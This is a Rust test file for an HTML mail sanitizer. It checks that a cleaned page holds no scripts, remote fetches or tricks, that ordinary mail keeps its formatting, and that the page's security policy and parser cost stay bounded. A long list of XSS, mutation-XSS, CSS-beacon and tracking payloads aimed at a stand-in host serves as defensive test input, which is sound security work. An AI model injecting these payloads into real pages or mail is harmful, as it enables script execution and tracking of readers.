//! Pure. What is checked of a cleaned page.

use super::*;

/// Everything in a page that a browser could fetch or run, told by reading the page again by hand: tags and
/// attributes by the standard's own rules for them, with no list shared with the cleaner.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let lower = html.to_lowercase();
    for needle in ["<!--", "<![", "<?"] {
        found.extend(lower.contains(needle).then(|| needle.to_owned()));
    }
    for (name, attributes) in tags(&lower) {
        let active = [
            "script",
            "style",
            "link",
            "meta",
            "base",
            "iframe",
            "frame",
            "object",
            "embed",
            "applet",
            "form",
            "input",
            "button",
            "textarea",
            "select",
            "svg",
            "math",
            "audio",
            "video",
            "source",
            "track",
            "picture",
            "portal",
            "template",
            "noscript",
            "body",
            "html",
            "head",
            "title",
            "area",
            "map",
            "image",
            "bgsound",
            "isindex",
            "marquee",
            "keygen",
            "xmp",
            "plaintext",
            "noembed",
            "noframes",
            "canvas",
            "animate",
            "use",
            "foreignobject",
            "font",
        ];
        found.extend(active.contains(&name.as_str()).then(|| format!("<{name}>")));
        for (attribute, value) in attributes {
            found.extend(danger(&name, &attribute, &value));
        }
    }
    found
}

fn danger(tag: &str, attribute: &str, value: &str) -> Option<String> {
    let written = format!("<{tag} {attribute}={value:?}>");
    match (tag, attribute) {
        ("a", "href") if ["https://", "http://", "mailto:", "tel:"].iter().any(|s| value.starts_with(s)) => {
            None
        }
        ("img", "src") if value.starts_with("data:image/png;") || value.starts_with("/inside/") => None,
        ("a", "rel" | "target") => None,
        (
            _,
            "alt" | "title" | "align" | "valign" | "width" | "height" | "bgcolor" | "border" | "colspan"
            | "dir",
        ) => None,
        (_, "rowspan" | "lang" | "start" | "cellpadding" | "cellspacing") => None,
        ("span", "class") => None,
        (_, "style") => ["url", "//", "\\", "/*", "@", "image", "expression", "import", "fixed", "var("]
            .iter()
            .any(|bad| value.contains(bad))
            .then_some(written),
        _ => Some(written),
    }
}

/// Tags with their attributes, as the tokenizer of a browser finds them in serialised HTML.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let end = rest.find(|c: char| c.is_whitespace() || c == '>' || c == '/').unwrap_or(rest.len());
        let name = rest[..end].to_owned();
        rest = &rest[end..];
        found.push((name, attributes(&mut rest)));
    }
    found
}

fn attributes(rest: &mut &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    loop {
        *rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return found;
        }
        let end =
            rest[1..].find(|c: char| c.is_whitespace() || "=>/".contains(c)).map_or(rest.len(), |at| at + 1);
        let name = rest[..end].to_owned();
        *rest = rest[end..].trim_start();
        let value = match rest.strip_prefix('=').map(str::trim_start) {
            Some(value) => take_value(value, rest),
            None => String::new(),
        };
        found.push((name, value));
    }
}

fn take_value<'h>(value: &'h str, rest: &mut &'h str) -> String {
    let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''));
    let (start, end) = match quote {
        Some(quote) => (1, value[1..].find(quote).map_or(value.len(), |at| at + 1)),
        None => (0, value.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(value.len())),
    };
    *rest = value.get(end + usize::from(quote.is_some())..).unwrap_or_default();
    value[start..end].to_owned()
}

fn cleaned(html: &str) -> String {
    let inside = BTreeMap::from([("logo@x".to_owned(), "/inside/0".to_owned())]);
    clean(html, &Pictures { inside, remote: false }).unwrap().html
}

/// Scripts, trackers and tricks, in every corner HTML and CSS have; every one is a danger as it stands.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//x.test/a.js></script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=https://x.test/t.gif>",
    "<img src='//x.test/t.gif' width=1 height=1>",
    "<img src='/api/people'>",
    "<img src=\" \thttps://x.test/t.gif\">",
    "<img src='ht\ntps://x.test/t.gif'>",
    "<img srcset='https://x.test/1x.png 1x, //x.test/2x.png 2x'>",
    "<img sizes=100vw srcset=//x.test/a>",
    "<img lowsrc=//x.test/a dynsrc=//x.test/b>",
    "<img longdesc=//x.test/a usemap=#m>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,x'>",
    "<img src=cid:unknown onload=alert(1)>",
    "<image src=//x.test/a>",
    "<picture><source srcset=//x.test/a><img></picture>",
    "<body background=https://x.test/t.gif onload=alert(1)>hello",
    "<table background=//x.test/a><tr><td background='//x.test/b'>x</table>",
    "<video poster=//x.test/a src=//x.test/b autoplay></video>",
    "<audio src=//x.test/a autoplay></audio>",
    "<video><source src=//x.test/a><track src=//x.test/b></video>",
    "<iframe src=//x.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//x.test></frameset>",
    "<object data=//x.test><param name=movie value=//x.test></object>",
    "<embed src=//x.test>",
    "<applet code=x archive=//x.test></applet>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<link rel=prefetch href=//x.test><link rel=dns-prefetch href=//x.test><link rel=preconnect href=//x.test>",
    "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<base href=//x.test/><a href=a>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#x6A;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/api/people/anna/delete'>x</a>",
    "<a href='//x.test'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=https://x.test ping=//x.test/p>x</a>",
    "<a href=https://x.test target=_top onclick=alert(1)>x</a>",
    "<a href='cid:logo@x'>x</a>",
    "<map name=m><area href=javascript:alert(1)></map>",
    "<form action=//x.test><input name=password><button formaction=//x.test>go</button></form>",
    "<input type=image src=//x.test/a>",
    "<isindex action=//x.test>",
    "<button form=f formaction=//x.test>x</button>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image xlink:href=//x.test/a /></svg>",
    "<svg><use href='//x.test/a#b'/></svg>",
    "<svg><style>@import '//x.test'</style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=//x.test></iframe></foreignObject></svg>",
    "<svg><filter><feImage href=//x.test/a /></filter></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><img src=//x.test/a></template>",
    "<select><option><style><img src=//x.test></style></select>",
    "<plaintext><img src=//x.test>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if mso]><img src=//x.test/a><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=//x.test?>",
    "<style>@import url(//x.test/a.css);</style>",
    "<style>body{background:url(//x.test/a)}</style>",
    "<style>@font-face{font-family:x;src:url(//x.test/a)}</style>",
    "<style>a[href^=h]{background:url(//x.test)}</style>",
    "<p style='background:url(//x.test/a)'>x</p>",
    "<p style=\"background:url('//x.test/a')\">x</p>",
    "<p style='background:u\\72l(//x.test)'>x</p>",
    "<p style='list-style:url(//x.test);cursor:url(//x.test)'>x</p>",
    "<p style='background:image-set(\"//x.test/a\" 1x)'>x</p>",
    "<p style='background-image: /* */ url(//x.test)'>x</p>",
    "<p style='--x:url(//x.test);background:var(--x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='@import \"//x.test\"'>x</p>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p id=x name=y contenteditable tabindex=0 accesskey=a>x</p>",
    "<div is=x-y data-x=//x.test slot=z>x</div>",
    "<blockquote cite=//x.test>x</blockquote>",
    "<bgsound src=//x.test>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details ontoggle=alert(1) open>x</details>",
    "<canvas id=x></canvas>",
    "<portal src=//x.test></portal>",
    "<font face='x' onclick=alert(1)>x</font>",
    "<b onclick=alert(1) style='background:url(//x.test)'>x</b>",
    "<a\x0chref=\"https://x.test\"\x0conclick=alert(1)>x",
    "<x-y onclick=alert(1) style=background:url(//x.test)>x",
    "<p title='\"><img src=x onerror=alert(1)>' onclick=x>x",
    "<p title=\"`onerror=alert(1)`\" onfocus=x>x",
    "<table><td><style></table><img src=x onerror=alert(1)>",
    "<a href=https://x.test><img src=//x.test/beacon></a>",
    "<img src=x:x onerror=alert(1) //",
    "<img src=\"https://x.test/unclosed",
];

#[test]
fn nothing_hostile_survives() {
    for html in HOSTILE {
        assert_eq!(dangers(&cleaned(html)), Vec::<String>::new(), "{html}\n{}", cleaned(html));
    }
}

/// The mutant: every piece is a danger when it is not cleaned, so the check above sees what it must.
#[test]
fn every_hostile_piece_is_seen_uncleaned() {
    for html in HOSTILE {
        assert!(!dangers(html).is_empty(), "not seen: {html}");
    }
}

#[test]
fn pieces_stay_harmless_inside_each_other() {
    for outer in HOSTILE.iter().step_by(3) {
        let html: String = HOSTILE.iter().map(|inner| format!("{outer}{inner}</p>")).collect();
        let once = cleaned(&html);
        assert_eq!(dangers(&once), Vec::<String>::new(), "{outer}");
        assert_eq!(dangers(&cleaned(&once)), Vec::<String>::new(), "{outer}, cleaned twice");
    }
}

#[test]
fn pieces_cut_anywhere_stay_harmless() {
    for html in HOSTILE {
        for at in (0..html.len()).step_by(3).filter(|at| html.is_char_boundary(*at)) {
            for cut in [&html[..at], &html[at..]] {
                assert_eq!(dangers(&cleaned(cut)), Vec::<String>::new(), "{cut}");
            }
        }
    }
}

#[test]
fn an_ordinary_mail_keeps_its_looks() {
    let html = "<html><body><p style=\"color:red\">Hello <b>Kim</b>,</p><table border=1><tr><td colspan=2>a</td></tr></table>\
                <a href=\"https://firm.test/a?b=c&amp;d\">link</a> <a href=\"mailto:kim@firm.test\">mail</a></body></html>";
    assert_eq!(
        cleaned(html),
        "<p style=\"color:red\">Hello <span class=\"b\">Kim</span>,</p><table border=\"1\"><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>\
         <a href=\"https://firm.test/a?b=c&amp;d\" target=\"_blank\" rel=\"noopener noreferrer\">link</a> \
         <a href=\"mailto:kim@firm.test\" target=\"_blank\" rel=\"noopener noreferrer\">mail</a>"
    );
}

#[test]
fn pictures_of_the_mail_are_shown_and_others_only_when_asked_for() {
    let html = "<img src=cid:logo@x><img src=cid:other><img src=https://x.test/a><img src=http://x.test/b>";
    let inside = BTreeMap::from([("logo@x".to_owned(), "/inside/0".to_owned())]);
    let shown = |remote| clean(html, &Pictures { inside: inside.clone(), remote }).unwrap();
    assert_eq!(shown(false).html, "<img src=\"/inside/0\"><img><img><img>");
    assert_eq!(shown(false).left_out, 2);
    assert_eq!(
        shown(true).html,
        "<img src=\"/inside/0\"><img><img src=\"https://x.test/a\"><img src=\"http://x.test/b\">"
    );
    assert_eq!(shown(true).left_out, 0);
}

/// One picture named a thousand times costs no more than the page's bound.
#[test]
fn a_picture_named_again_and_again_does_not_grow_the_page_without_bound() {
    let inside = BTreeMap::from([("a".to_owned(), "x".repeat(5 << 20))]);
    let safe = clean(&"<img src=cid:a>".repeat(1000), &Pictures { inside, remote: false }).unwrap();
    assert_eq!(safe.html.matches("src=").count(), 4, "as often as 24 MiB hold it");
    assert_eq!(safe.html.matches("<img").count(), 1000);
}

#[test]
fn the_policy_of_the_page_lets_nothing_else_through() {
    let remote = Pictures { remote: true, ..Pictures::default() };
    assert!(!csp(&Pictures::default()).contains("http"), "nothing from elsewhere");
    assert!(csp(&remote).contains("img-src 'self' data: https: http:;"));
    for policy in [csp(&Pictures::default()), csp(&remote)] {
        assert!(policy.starts_with("default-src 'none';"), "{policy}");
        for rule in
            ["base-uri 'none'", "form-action 'none'", "frame-ancestors 'self'", &format!("sandbox {SANDBOX}")]
        {
            assert!(policy.contains(rule), "{policy}");
        }
        for word in ["script", "unsafe-eval", "allow-same-origin", "allow-scripts", "connect-src", "*"] {
            assert!(!policy.contains(word), "{policy}: {word}");
        }
    }
}

#[test]
fn the_page_holds_the_mail_and_nothing_of_others() {
    let page = page(&clean("<p>hello", &Pictures::default()).unwrap());
    assert!(page.starts_with("<!doctype html>") && page.contains("<body><p>hello</p></body>"), "{page}");
    assert!(!page.contains("http"));
}

#[test]
fn what_would_make_a_parser_work_for_minutes_is_bounded() {
    for piece in [
        "<b>",
        "<font size=1>",
        "<a href=x><p>",
        "<table><tr><td>",
        "<div><span>",
        "</p>",
        "<p",
        "a=b ",
        "&amp;<i>",
    ] {
        let html = piece.repeat((1 << 19) / piece.len());
        if let Some(safe) = clean(&html, &Pictures::default()) {
            assert!(safe.html.len() < 8 << 20, "{piece}");
        }
    }
    let fonts: String = (0..5000).map(|n| format!("<font size={n}>")).collect();
    let safe = clean(&(fonts + &"<p>x".repeat(5000)), &Pictures::default()).unwrap();
    assert!(safe.html.len() < 1 << 20, "built again in every block: {}", safe.html.len());
}
